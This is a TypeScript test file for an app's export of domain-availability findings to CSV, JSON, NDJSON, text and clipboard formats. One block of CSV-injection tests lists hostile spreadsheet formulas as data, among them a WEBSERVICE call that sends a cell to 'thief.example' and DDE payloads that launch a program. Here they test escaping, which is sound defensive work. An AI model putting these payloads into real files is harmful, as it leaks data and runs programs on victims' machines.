import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Finding, Price } from '#shared/domain/finding.ts';
import { viewOf } from '#shared/domain/session-rows.ts';
import {
  asEntered,
  cellCode,
  noFilter,
  type SessionFilter,
  type SessionSort,
} from '#shared/domain/session.ts';
import {
  exportColumns,
  exportRow,
  type ExportRow,
  type Format,
  formats,
  formulaSafe,
  tsv,
} from '../../../../../electron/main/export/formats.ts';
import { cellsOf, shownCells } from '../../../../../electron/main/export/shown-cells.ts';

describe('formats', () => {
  describe('a finding as a row', () => {
    const aFinding = (changes: Partial<Finding> = {}): Finding => ({
      domain: 'example.com',
      tld: 'com',
      kind: 'available',
      cause: null,
      message: '',
      checkedAt: '2026-02-21T14:00:00.000Z',
      prices: [],
      ...changes,
    });

    const given = (amount: string, currency: string | null = null): Price => ({
      kind: 'given',
      amount,
      currency,
    });
    const notGiven: Price = { kind: 'not-given' };
    const priced = (register: Price, renew: Price): Pick<Finding, 'prices'> => ({
      prices: [
        { period: 1, register, transfer: notGiven, renew },
        { period: 2, register: given('99'), transfer: notGiven, renew: given('99') },
      ],
    });

    it('has the columns of the product in their order', () => {
      expect(exportColumns.join(',')).toBe(
        'domain,name,tld,finding,available,premium,reserved,valid,price_register,price_renew,currency,message,checked_at',
      );
      expect(Object.keys(exportRow(aFinding()))).toEqual([...exportColumns]);
    });

    it.each([
      ['available', true, false, false, true],
      ['premium', true, true, false, true],
      ['taken', false, null, false, true],
      ['reserved', false, null, true, true],
      ['invalid', false, null, null, false],
      ['unknown', null, null, null, null],
      ['unchecked', null, null, null, null],
    ] as const)(
      'C17 says of a %s name what is known, and nothing more',
      (kind, available, premium, reserved, valid) => {
        expect(exportRow(aFinding({ kind }))).toMatchObject({
          finding: kind,
          available,
          premium,
          reserved,
          valid,
        });
      },
    );

    it.each([
      ['a name in Latin letters', 'example.com', 'com', 'example'],
      ['an international name (RFC 3492)', 'xn--bcher-kva.com', 'com', 'bücher'],
      ['a TLD of two labels', 'example.co.uk', 'co.uk', 'example'],
      ['an international TLD', 'xn--e1afmkfd.xn--p1ai', 'xn--p1ai', 'пример'],
    ])('has the label as people read it: %s', (_case, domain, tld, name) => {
      expect(exportRow(aFinding({ domain, tld }))).toMatchObject({ domain, name, tld });
    });

    it.each([
      ['given', priced(given('12.50', 'EUR'), given('14.90', 'EUR')), '12.50', '14.90', 'EUR'],
      ['given without a currency', priced(given('12.50'), given('14.90')), '12.50', '14.90', null],
      ['given for renewal alone', priced(notGiven, given('14.90', 'USD')), null, '14.90', 'USD'],
      ['not given', priced(notGiven, notGiven), null, null, null],
      ['unreadable', priced({ kind: 'unreadable' }, notGiven), null, null, null],
      ['zero, which is not "not given"', priced(given('0'), notGiven), '0', null, null],
      ['of no period', { prices: [] }, null, null, null],
    ] as const)(
      'has the price of the shortest period: %s',
      (_case, prices, price_register, price_renew, currency) => {
        expect(exportRow(aFinding(prices))).toMatchObject({ price_register, price_renew, currency });
      },
    );
  });

  describe('text that a spreadsheet would run', () => {
    // OWASP, "CSV Injection": the characters with which a cell must not begin, and its examples.
    it.each([
      ['equals', '=1+1'],
      ['plus', '+1+1'],
      ['minus', '-1+1'],
      ['at', '@SUM(1+1)'],
      ['a tab', '\t=1+1'],
      ['a carriage return', '\r=1+1'],
      ['a line feed', '\n=1+1'],
      ['a full-width equals', '＝1+1'],
      ['a full-width plus', '＋1'],
      ['a full-width minus', '－1'],
      ['a full-width at', '＠SUM(1)'],
      ['a way out with the network', '=WEBSERVICE("https://thief.example/?"&A1)'],
      ['a way to a program', "=cmd|' /C calc'!A0"],
      ['a way to a program behind a minus', "-2+3+cmd|' /C calc'!A0"],
      ['white space, which some programs cut off', '  =1+1'],
      ['a no-break space', '\u00a0=1+1'],
    ])('gets an apostrophe before it: %s', (_case, text) => expect(formulaSafe(text)).toBe(`'${text}`));

    it.each([
      ['a name', 'example.com'],
      ['a sign inside', 'a=b'],
      ['a price', '12.50'],
      ['an instant', '2026-02-21T14:00:00.000Z'],
      ['nothing', ''],
      ['white space before a word', ' registered'],
    ])('is left as it is where it is none: %s', (_case, text) => expect(formulaSafe(text)).toBe(text));
  });
});

describe('formats more', () => {
  const aRow = (changes: Partial<ExportRow> = {}): ExportRow => ({
    domain: 'xn--bcher-kva.com',
    name: 'bücher',
    tld: 'com',
    finding: 'available',
    available: true,
    premium: false,
    reserved: null,
    valid: true,
    price_register: '12.50',
    price_renew: null,
    currency: null,
    message: '',
    checked_at: '2026-02-21T14:00:00.000Z',
    ...changes,
  });

  const whole = ({ head, rows, foot }: Format, pieces: readonly (readonly ExportRow[])[]): string =>
    head + pieces.map((piece, index) => rows(piece, index === 0)).join('') + foot;

  describe('CSV', () => {
    it('has a head line and a line for each finding; empty is what is not known', () => {
      expect(whole(formats.csv, [[aRow()]])).toBe(
        `${exportColumns.join(',')}\nxn--bcher-kva.com,bücher,com,available,true,false,,true,12.50,,,,2026-02-21T14:00:00.000Z\n`,
      );
    });

    // RFC 4180, section 2, rules 5 to 7.
    it.each([
      ['a comma', 'a,b', '"a,b"'],
      ['quotes', 'say "no"', '"say ""no"""'],
      ['a line break', 'one\r\ntwo', '"one\r\ntwo"'],
      ['a formula', '=1+1', "'=1+1"],
      ['a formula with a comma', '=SUM(A1,A2)', `"'=SUM(A1,A2)"`],
    ])('writes %s so that one field stays one field', (_case, message, written) => {
      expect(
        whole(formats.csv, [[aRow({ message })]])
          .split(',,,')[1]
          ?.startsWith(`${written},`),
      ).toBe(true);
    });

    it('begins with `domain` and not with a byte order mark', () => {
      expect(
        Buffer.from(whole(formats.csv, [[aRow()]]))
          .subarray(0, 6)
          .toString('latin1'),
      ).toBe('domain');
    });

    it('is read back as it was, whatever the service said', () => {
      fc.assert(
        fc.property(fc.array(fc.string({ unit: 'grapheme' }), { maxLength: 20 }), (messages) => {
          const rows = messages.map((message) => aRow({ message }));
          const read = parse(whole(formats.csv, [rows.slice(0, 3), rows.slice(3)]), { columns: true });
          expect(read.map((row) => String(Reflect.get(Object(row), 'message')).replace(/^'/, ''))).toEqual(
            messages.map((message) => message.replace(/^'/, '')),
          );
        }),
      );
    });
  });

  describe('JSON', () => {
    it.each([
      ['no piece', []],
      ['a piece', [[aRow(), aRow({ domain: 'b.com' })]]],
      ['two pieces', [[aRow()], [aRow({ domain: 'b.com', message: '=1,"x"\n' })]]],
    ])('is one array out of %s, with null for what is not known', (_case, pieces) => {
      expect(JSON.parse(whole(formats.json, pieces))).toEqual(pieces.flat());
    });
  });

  describe('NDJSON', () => {
    it('is an object a line, and each line ends', () => {
      const rows = [aRow({ message: 'two\nlines' }), aRow({ domain: 'b.com' })];
      const text = whole(formats.ndjson, [rows]);
      expect(text.endsWith('\n')).toBe(true);
      expect(
        text
          .trimEnd()
          .split('\n')
          .map((line) => JSON.parse(line) as unknown),
      ).toEqual(rows);
    });
  });

  describe('TXT', () => {
    it('is a domain a line, as A-labels', () => {
      expect(whole(formats.txt, [[aRow()], [aRow({ domain: 'b.com' })]])).toBe('xn--bcher-kva.com\nb.com\n');
    });
  });

  describe('text for the clipboard', () => {
    it('is parted by tabs, with a field in one line and no formula', () => {
      const text = whole(tsv, [[aRow({ message: '=1\tand\r\nmore' })]]);
      const [head, row, rest] = text.split('\n');
      expect(head).toBe(exportColumns.join('\t'));
      expect(row?.split('\t')[11]).toBe("'=1 and more");
      expect(rest).toBe('');
    });
  });
});

describe('the cells of an export', () => {
  const [free, taken, open] = [
    cellCode('available', null),
    cellCode('taken', null),
    cellCode('unchecked', null),
  ];

  /** Rows beta, alpha, gamma; columns com, net. */
  const matrix = {
    names: ['beta', 'alpha', 'gamma'],
    tlds: ['com', 'net'],
    codes: Uint8Array.from([free, taken, taken, open, free, free]),
    checkedAt: new Uint32Array(6).fill(1),
  };

  const shown = (filter: Partial<SessionFilter>, sort: SessionSort = asEntered): readonly number[] =>
    Array.from(shownCells(viewOf(matrix, { ...noFilter, ...filter }, sort), matrix.tlds.length));

  it.each<[string, Partial<SessionFilter>, SessionSort, readonly number[]]>([
    ['all, unchecked ones too, where no kind is asked for', {}, asEntered, [0, 1, 2, 3, 4, 5]],
    ['of one kind', { kinds: ['available'] }, asEntered, [0, 4, 5]],
    ['unchecked where these are asked for', { kinds: ['unchecked'] }, asEntered, [3]],
    ['of one column', { tlds: ['net'] }, asEntered, [1, 3, 5]],
    ['of one name', { text: 'alp' }, asEntered, [2, 3]],
    ['in the order of the names', {}, { by: 'name', descending: false }, [2, 3, 0, 1, 4, 5]],
    ['in the other direction', {}, { by: 'entered', descending: true }, [4, 5, 2, 3, 0, 1]],
    ['none', { text: 'nothing like it' }, asEntered, []],
  ])('are those that are shown, in that order: %s', (_case, filter, sort, cells) => {
    expect(shown(filter, sort)).toEqual(cells);
  });

  it('are in the order of their prices, of which only those of what can be bought come along', () => {
    const priced = (amount: string) => ({
      period: 1,
      register: { kind: 'given', amount, currency: null } as const,
      renew: { kind: 'not-given' } as const,
    });
    // beta.com, gamma.com and gamma.net
    const offers = { offers: [priced('8'), priced('9'), priced('2')], of: [1, 2, 3] };
    const view = { ...matrix, names: matrix.names.join('\n'), filter: noFilter, offers };
    const by = 'register';
    expect([...cellsOf({ ...view, sort: { by, descending: false } })]).toEqual([4, 5, 0, 1, 2, 3]);
    expect([...cellsOf({ ...view, sort: { by, descending: true } })]).toEqual([0, 1, 4, 5, 2, 3]);
    expect([...cellsOf({ ...view, sort: { by, descending: false, tld: 'com' } })]).toEqual([
      0, 1, 4, 5, 2, 3,
    ]);
  });
});
